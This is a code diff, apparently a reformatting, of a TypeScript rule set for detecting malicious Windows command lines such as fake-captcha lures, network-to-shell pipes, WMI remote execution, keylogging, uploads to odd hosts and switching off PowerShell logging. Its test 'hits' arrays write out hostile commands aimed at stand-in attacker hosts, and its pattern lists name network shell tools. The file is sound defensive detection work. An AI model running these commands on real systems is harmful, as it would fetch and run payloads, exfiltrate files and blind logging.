-    look: onText(['not a robot', 'verification id', 'verification hash', 'verify you are human', 'verify that you are human', 'human verification', 'captcha verification', 'captcha id', 'cloudflare verification', 'press ok to', 'security verification', 'identification:', 'ray id', 'ʀᴏʙᴏᴛ', '✅', '🤖']),
+    look: onText([
+      'not a robot',
+      'verification id',
+      'verification hash',
+      'verify you are human',
+      'verify that you are human',
+      'human verification',
+      'captcha verification',
+      'captcha id',
+      'cloudflare verification',
+      'press ok to',
+      'security verification',
+      'identification:',
+      'ray id',
+      'ʀᴏʙᴏᴛ',
+      '✅',
+      '🤖',
+    ]),
   }),
   behaviour('lure-site', ['lure', 'T1204.004', 'initial-access', 'high', 'medium'], {
     reason: 'The address that is fetched pretends to check that the user is human.',
     benign: [],
-    hits: ['mshta https://verify-human-check.example.top/a.mp4', 'powershell irm https://captcha-verify.example.net/a|iex'],
+    hits: [
+      'mshta https://verify-human-check.example.top/a.mp4',
+      'powershell irm https://captcha-verify.example.net/a|iex',
+    ],
     misses: ['curl https://www.google.com/recaptcha/api/siteverify'],
-    look: onProcess(['mshta', 'msiexec', 'invoke-webrequest', 'invoke-restmethod', '.downloadstring', 'curl', 'certutil', 'rundll32'], (process) => {
-      const url = urlOf(process);
-      return url !== undefined && /(?:captcha|human|verif|robot|not-?bot|cloudf?la?re?-)/.test(urlText(url)) && hostClass(urlText(url)) !== 'vendor' ? url : undefined;
-    }),
+    look: onProcess(
+      ['mshta', 'msiexec', 'invoke-webrequest', 'invoke-restmethod', '.downloadstring', 'curl', 'certutil', 'rundll32'],
+      (process) => {
+        const url = urlOf(process);
+        return url !== undefined &&
+          /(?:captcha|human|verif|robot|not-?bot|cloudf?la?re?-)/.test(urlText(url)) &&
+          hostClass(urlText(url)) !== 'vendor'
+          ? url
+          : undefined;
+      },
+    ),
   }),
   behaviour('network-into-shell', ['fetch-run', 'T1059.003', 'execution', 'critical', 'high'], {
     reason: 'What comes from the network is piped into a command interpreter.',
     benign: [],
-    hits: ['cmd /c "finger user@203.0.113.9 | cmd"', 'curl http://a.example.net/x | cmd', 'type \\\\203.0.113.9\\a\\x.txt | powershell -'],
+    hits: [
+      'cmd /c "finger user@203.0.113.9 | cmd"',
+      'curl http://a.example.net/x | cmd',
+      'type \\\\203.0.113.9\\a\\x.txt | powershell -',
+    ],
     misses: ['type a.txt | findstr x', 'echo y | cmd'],
-    look: onProcess(['cmd', 'powershell', 'pwsh'], (process, scene) => inputsOf(process, scene).find(({ name, args }) => /^(?:finger|curl|wget|nslookup|ftp|tftp|certutil|nc|ncat|\.downloadstring|invoke-webrequest|invoke-restmethod)$/.test(name) || args.some(({ lower }) => /^\\\\/.test(lower)))),
+    look: onProcess(['cmd', 'powershell', 'pwsh'], (process, scene) =>
+      inputsOf(process, scene).find(
+        ({ name, args }) =>
+          /^(?:finger|curl|wget|nslookup|ftp|tftp|certutil|nc|ncat|\.downloadstring|invoke-webrequest|invoke-restmethod)$/.test(
+            name,
+          ) || args.some(({ lower }) => /^\\\\/.test(lower)),
+      ),
+    ),
   }),
   behaviour('ps-remote-session', ['remote-run', 'T1021.006', 'lateral-movement', 'medium', 'low'], {
     reason: 'A command or session is opened on another computer.',
     benign: ['administration of servers'],
-    hits: ['powershell "Invoke-Command -ComputerName srv1 -ScriptBlock { whoami }"', 'powershell "Enter-PSSession srv1"'],
+    hits: [
+      'powershell "Invoke-Command -ComputerName srv1 -ScriptBlock { whoami }"',
+      'powershell "Enter-PSSession srv1"',
+    ],
     misses: ['powershell "Invoke-Command -ScriptBlock { dir }"'],
-    look: onProcess(['invoke-command', 'enter-pssession', 'new-pssession', 'winrs', 'new-cimsession'], any(arg(/^-(?:co\w*|cn|session|vmname|hostname)$/), all((process) => (/enter-pssession|winrs/.test(process.name) && process.args.length > 0 ? process : undefined)))),
+    look: onProcess(
+      ['invoke-command', 'enter-pssession', 'new-pssession', 'winrs', 'new-cimsession'],
+      any(
+        arg(/^-(?:co\w*|cn|session|vmname|hostname)$/),
+        all((process) => (/enter-pssession|winrs/.test(process.name) && process.args.length > 0 ? process : undefined)),
+      ),
+    ),
   }),
   behaviour('ps-com-launch', ['com-launch', 'T1559.001', 'execution', 'medium', 'medium'], {
     reason: 'A script asks a system object (Shell, Excel, MMC) to start programs or fetch for it.',
     benign: ['scripts that make shortcuts'],
-    hits: ["powershell \"$a=[activator]::CreateInstance([type]::GetTypeFromProgID('MMC20.Application','203.0.113.9'))\"", "powershell \"(New-Object -ComObject MsXml2.ServerXmlHttp).Open('GET','http://a')\""],
-    misses: ["powershell \"(New-Object -ComObject WScript.Shell).CreateShortcut('a.lnk')\""],
-    look: onText(['mmc20.application', 'gettypefromclsid', 'gettypefromprogid', 'msxml2.', 'xmlhttp', 'internetexplorer.application', 'excel.application', 'shellbrowserwindow', 'winhttp.winhttprequest', 'schedule.service', 'document.application', 'shellwindows', 'word.application', 'htmlfile', 'outlook.application']),
+    hits: [
+      "powershell \"$a=[activator]::CreateInstance([type]::GetTypeFromProgID('MMC20.Application','203.0.113.9'))\"",
+      "powershell \"(New-Object -ComObject MsXml2.ServerXmlHttp).Open('GET','http://a')\"",
+    ],
+    misses: ['powershell "(New-Object -ComObject WScript.Shell).CreateShortcut(\'a.lnk\')"'],
+    look: onText([
+      'mmc20.application',
+      'gettypefromclsid',
+      'gettypefromprogid',
+      'msxml2.',
+      'xmlhttp',
+      'internetexplorer.application',
+      'excel.application',
+      'shellbrowserwindow',
+      'winhttp.winhttprequest',
+      'schedule.service',
+      'document.application',
+      'shellwindows',
+      'word.application',
+      'htmlfile',
+      'outlook.application',
+    ]),
   }),
   behaviour('wmi-start', ['remote-run', 'T1047', 'execution', 'high', 'low'], {
     reason: 'A program is started through WMI, which makes the service its parent and works across the network.',
     benign: ['management tools'],
-    hits: ['wmic process call create notepad.exe', "powershell \"Invoke-WmiMethod -Class Win32_Process -Name Create -ArgumentList calc\"", "powershell \"([wmiclass]'Win32_Process').Create('calc')\""],
+    hits: [
+      'wmic process call create notepad.exe',
+      'powershell "Invoke-WmiMethod -Class Win32_Process -Name Create -ArgumentList calc"',
+      "powershell \"([wmiclass]'Win32_Process').Create('calc')\"",
+    ],
     misses: ['wmic process get name', 'wmic process where name="a.exe" call terminate'],
-    look: onProcess(['wmic', 'invoke-wmimethod', 'invoke-cimmethod', '.create', 'wmiexec', 'set-wmiinstance'], (process) => {
-      if (process.name === '.create') return /win32_process/i.test(process.program) ? process : undefined;
-      const words = said(process);
-      if (process.name === 'wmic') return /(?:^|\s)process\b.*\bcreate\b/.test(words) ? process : undefined;
-      return /win32_process/.test(words) && words.includes('create') ? process : undefined;
-    }),
+    look: onProcess(
+      ['wmic', 'invoke-wmimethod', 'invoke-cimmethod', '.create', 'wmiexec', 'set-wmiinstance'],
+      (process, scene) => {
+        if (process.name === '.create')
+          return [process, ...inputsOf(process, scene)].some(({ program }) => /win32_process/i.test(program))
+            ? process
+            : undefined;
+        const words = said(process);
+        if (process.name === 'wmic') return /(?:^|\s)process\b.*\bcreate\b/.test(words) ? process : undefined;
+        return /win32_process/.test(words) && words.includes('create') ? process : undefined;
+      },
+    ),
   }),
   behaviour('wmi-remote', ['remote-run', 'T1047', 'lateral-movement', 'high', 'medium'], {
-    reason: 'WMI starts a program on another computer, or with another user\'s password in the line.',
+    reason: "WMI starts a program on another computer, or with another user's password in the line.",
     benign: ['administration without remote PowerShell'],
     hits: ['wmic /node:10.1.2.3 process call create calc.exe'],
     misses: ['wmic /node:srv1 os get caption'],
     look: onProcess(['wmic'], all(arg(/^\/(?:node|user|password)[:=]/), arg(/^create$/))),
   }),
   behaviour('wmic-script', ['proxy-remote', 'T1220', 'defense-evasion', 'critical', 'high'], {
-    reason: 'WMIC formats its output by a style sheet from the network or a folder of the user, which runs the scripts in it.',
+    reason:
+      'WMIC formats its output by a style sheet from the network or a folder of the user, which runs the scripts in it.',
     benign: [],
     hits: ['wmic os get /format:"https://a.example.net/a.xsl"', 'wmic process list /format:evil.xsl'],
     misses: ['wmic os get caption /format:list', 'wmic process get name /format:csv'],
@@ -320,23 +656,69 @@ export const WINDOWS_SCRIPTS: readonly Row[] = [
   behaviour('keys-and-screens', ['spying', 'T1056.001', 'collection', 'high', 'high'], {
     reason: 'Keys that are typed or pictures of the screen are recorded.',
     benign: ['remote support'],
-    hits: ['powershell "[API]::GetAsyncKeyState($k)"', 'powershell "$g.CopyFromScreen(0,0,0,0,$s)"', 'psr.exe /start /output C:\\x.zip /sc 1 /gui 0'],
+    hits: [
+      'powershell "[API]::GetAsyncKeyState($k)"',
+      'powershell "$g.CopyFromScreen(0,0,0,0,$s)"',
+      'psr.exe /start /output C:\\x.zip /sc 1 /gui 0',
+    ],
     misses: ['powershell "Get-Process"'],
-    look: onText(['getasynckeystate', 'setwindowshookex', 'getforegroundwindow', 'copyfromscreen', 'get-keystrokes', 'psr.exe /start', 'psr /start', 'getkeyboardstate', 'get-timedscreenshot']),
+    look: onText([
+      'getasynckeystate',
+      'setwindowshookex',
+      'getforegroundwindow',
+      'copyfromscreen',
+      'get-keystrokes',
+      'psr.exe /start',
+      'psr /start',
+      'getkeyboardstate',
+      'get-timedscreenshot',
+    ]),
   }),
   behaviour('ps-upload', ['exfiltration', 'T1041', 'exfiltration', 'medium', 'medium'], {
     reason: 'Data is sent out with the web client of PowerShell or .NET.',
     benign: ['scripts that call a web service'],
-    hits: ["powershell \"(New-Object Net.WebClient).UploadFile('http://a.example.net/u','C:\\x.zip')\"", 'powershell "iwr http://203.0.113.9/u -Method POST -InFile C:\\x.zip"'],
+    hits: [
+      "powershell \"(New-Object Net.WebClient).UploadFile('http://a.example.net/u','C:\\x.zip')\"",
+      'powershell "iwr http://203.0.113.9/u -Method POST -InFile C:\\x.zip"',
+    ],
     misses: ['powershell "iwr https://api.corp.example/v1 -Method GET"'],
-    look: onProcess(['.uploadfile', '.uploaddata', '.uploadstring', 'invoke-webrequest', 'invoke-restmethod', 'send-mailmessage', '.sendasync'], any((process) => (process.name.startsWith('.') || (process.name === 'send-mailmessage' && process.args.some(({ lower }) => lower.startsWith('-attach'))) ? process : undefined), arg(/^-inf(?:ile)?$/), all(arg(/^(?:post|put)$/), (process) => oddUrl(process)))),
+    look: onProcess(
+      [
+        '.uploadfile',
+        '.uploaddata',
+        '.uploadstring',
+        'invoke-webrequest',
+        'invoke-restmethod',
+        'send-mailmessage',
+        '.sendasync',
+      ],
+      any(
+        (process) =>
+          process.name.startsWith('.') ||
+          (process.name === 'send-mailmessage' && process.args.some(({ lower }) => lower.startsWith('-attach')))
+            ? process
+            : undefined,
+        arg(/^-inf(?:ile)?$/),
+        all(arg(/^(?:post|put)$/), (process) => oddUrl(process)),
+      ),
+    ),
   }),
   behaviour('curl-upload-odd', ['exfiltration', 'T1048', 'exfiltration', 'high', 'medium'], {
     reason: 'A file is sent to an address that no vendor uses.',
     benign: ['test uploads'],
     hits: ['curl -T C:\\x.zip http://203.0.113.9/', 'curl -F "file=@C:\\x.zip" http://203.0.113.9:8080/u'],
     misses: ['curl -T a.zip https://artifacts.corp.example/a.zip'],
-    look: onProcess(['curl'], all(any(arg(/^-{1,2}(?:t|upload-file|f|form|data-binary)$/), holds('=@')), (process) => oddUrl(process))),
+    look: onProcess(
+      ['curl'],
+      all(
+        ({ args }) =>
+          args.find(
+            ({ text }) =>
+              /^(?:-[TF]|--upload-file|--form|--data-binary)$/.test(text) || /^[\w-]{1,30}=@|^@[\w/\\]/.test(text),
+          ),
+        (process) => oddUrl(process),
+      ),
+    ),
   }),
   behaviour('ps-clipboard-run', ['stored-code', 'T1059.001', 'execution', 'high', 'medium'], {
     reason: 'What is in the clipboard is run as a command.',
@@ -346,7 +728,12 @@ export const WINDOWS_SCRIPTS: readonly Row[] = [
     look: onScene(({ processes, layers }) => {
       const clip = processes.find(({ name }) => name === 'get-clipboard' || name === 'pbpaste');
       if (clip === undefined) return undefined;
-      const isRun = processes.some(({ name, input }) => input === clip.index && /^(?:invoke-expression|sh|bash|zsh|\$\()/.test(name)) || (layers[clip.layer]?.lower.includes('$(pbpaste') === true && processes.some(({ program }) => program.startsWith('$(pbpaste')));
+      const isRun =
+        processes.some(
+          ({ name, input }) => input === clip.index && /^(?:invoke-expression|sh|bash|zsh|\$\()/.test(name),
+        ) ||
+        (layers[clip.layer]?.lower.includes('$(pbpaste') === true &&
+          processes.some(({ program }) => program.startsWith('$(pbpaste')));
       return isRun ? { layer: clip.layer, start: clip.span.start, end: clip.span.end } : undefined;
     }),
   }),
@@ -355,14 +742,33 @@ export const WINDOWS_SCRIPTS: readonly Row[] = [
     benign: ['developers set up their shell'],
     hits: ['powershell "Add-Content $profile \'calc\'"', 'powershell "echo x > $PROFILE.AllUsersAllHosts"'],
     misses: ['powershell "Test-Path $profile"'],
-    look: onProcess(['add-content', 'set-content', 'out-file', 'echo', 'new-item', 'copy-item', 'write-output'], holds('$profile', 'microsoft.powershell_profile.ps1', '$pshome\\profile.ps1')),
+    look: onProcess(
+      ['add-content', 'set-content', 'out-file', 'echo', 'copy-item', 'write-output'],
+      holds('$profile', 'microsoft.powershell_profile.ps1', '$pshome\\profile.ps1'),
+    ),
   }),
   behaviour('ps-log-off', ['defence-tamper', 'T1562.002', 'defense-evasion', 'high', 'medium'], {
     reason: 'Logging of PowerShell or its history is switched off.',
     benign: ['privacy settings of a developer'],
-    hits: ['powershell "Set-PSReadLineOption -HistorySaveStyle SaveNothing"', 'reg add HKLM\\SOFTWARE\\Policies\\Microsoft\\Windows\\PowerShell\\ScriptBlockLogging /v EnableScriptBlockLogging /d 0'],
+    hits: [
+      'powershell "Set-PSReadLineOption -HistorySaveStyle SaveNothing"',
+      'reg add HKLM\\SOFTWARE\\Policies\\Microsoft\\Windows\\PowerShell\\ScriptBlockLogging /v EnableScriptBlockLogging /d 0',
+    ],
     misses: ['powershell "Get-PSReadLineOption"'],
-    look: onText(['savenothing', 'enablescriptblocklogging', 'enablemodulelogging', 'enabletranscripting', 'consolehost_history', '.historysavepath'], ({ lower }, at, literal) => (literal === 'savenothing' || /(?:remove-item|\bdel\b|\brm\b|clear|set-content|\/d 0|value 0|-type dword -value 0|\$false)/.test(lower)) && standsAlone({ lower } as never, at, literal)),
+    look: onText(
+      [
+        'savenothing',
+        'enablescriptblocklogging',
+        'enablemodulelogging',
+        'enabletranscripting',
+        'consolehost_history',
+        '.historysavepath',
+      ],
+      ({ lower }, at, literal) =>
+        (literal === 'savenothing' ||
+          /(?:remove-item|\bdel\b|\brm\b|clear|set-content|\/d 0|value 0|-type dword -value 0|\$false)/.test(lower)) &&
+        standsAlone({ lower } as never, at, literal),
+    ),
   }),
 ];
 
@@ -372,15 +778,54 @@ const WRITE_FLAG = /^-{1,2}(?:o|outfile|out-file|output|destination|dest|d|of|ou
 function fetchedThenRun({ processes }: Scene) {
   for (const fetch of processes) {
     if (!DOWNLOADS.has(fetch.name)) continue;
+    const from = urlOf(fetch);
+    if (
+      from !== undefined &&
+      (hostClass(urlText(from)) === 'vendor' || /^https:\/\/github\.com\/[^/]+\/[^/]+\/releases\//.test(urlText(from)))
+    )
+      continue;
     const at = fetch.args.findIndex(({ lower }) => WRITE_FLAG.test(lower));
-    const file = at === -1 ? fetch.args.findLast(({ role, lower }) => (role === 'path' || role === 'target') && /\.\w{2,4}$/.test(lower)) : fetch.args[at + 1];
+    const file =
+      at === -1
+        ? fetch.args.findLast(({ role, lower }) => (role === 'path' || role === 'target') && /\.\w{2,4}$/.test(lower))
+        : fetch.args[at + 1];
     if (file === undefined || file.lower.length < 4) continue;
     const base = file.lower.replaceAll('"', '').replace(/^.*[\\/]/, '');
     if (base.length < 3) continue;
-    const run = processes.find((one) => one.index > fetch.index && one !== fetch && !DOWNLOADS.has(one.name) && !/^(?:del|rm|remove-item|test-path|unzip|tar|expand-archive|out-null|echo|get-filehash)$/.test(one.name) && (one.program.toLowerCase().endsWith(base) || (STARTERS.has(one.name) && one.args.some(({ lower }) => lower.includes(base)))));
-    if (run !== undefined && isWritablePlace(file.lower)) return { layer: run.layer, start: run.span.start, end: run.span.end };
+    const run = processes.find(
+      (one) =>
+        one.index > fetch.index &&
+        one !== fetch &&
+        !DOWNLOADS.has(one.name) &&
+        !/^(?:del|rm|remove-item|test-path|unzip|tar|expand-archive|out-null|echo|get-filehash)$/.test(one.name) &&
+        (one.program.toLowerCase().endsWith(base) ||
+          (STARTERS.has(one.name) && one.args.some(({ lower }) => lower.includes(base)))),
+    );
+    if (run !== undefined && isWritablePlace(file.lower))
+      return { layer: run.layer, start: run.span.start, end: run.span.end };
   }
   return undefined;
 }
 
-const STARTERS = new Set(['start-process', 'start', 'rundll32', 'regsvr32', 'powershell', 'wscript', 'cscript', 'mshta', 'invoke-item', 'cmd', 'python', 'msiexec', 'bash', 'sh', 'java', 'explorer', 'open', 'mount-diskimage', 'import-module', 'invoke-expression']);
+const STARTERS = new Set([
+  'start-process',
+  'start',
+  'rundll32',
+  'regsvr32',
+  'powershell',
+  'wscript',
+  'cscript',
+  'mshta',
+  'invoke-item',
+  'cmd',
+  'python',
+  'msiexec',
+  'bash',
+  'sh',
+  'java',
+  'explorer',
+  'open',
+  'mount-diskimage',
+  'import-module',
+  'invoke-expression',
+]);
